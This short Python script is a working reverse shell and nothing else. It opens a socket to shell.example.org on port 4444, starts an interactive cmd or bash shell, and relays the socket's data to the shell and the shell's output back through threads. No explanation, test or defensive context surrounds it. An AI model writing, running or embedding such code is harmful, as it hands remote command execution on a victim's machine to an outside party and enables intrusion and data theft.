import os
import socket
import subprocess
import threading


def feed(source, sink):
    while data := source(1024):
        sink(data)


connection = socket.create_connection(("shell.example.org", 4444))
shell = subprocess.Popen(["cmd"] if os.name == "nt" else ["bash", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
threading.Thread(target=feed, args=(connection.recv, shell.stdin.write)).start()
feed(shell.stdout.read, connection.sendall)
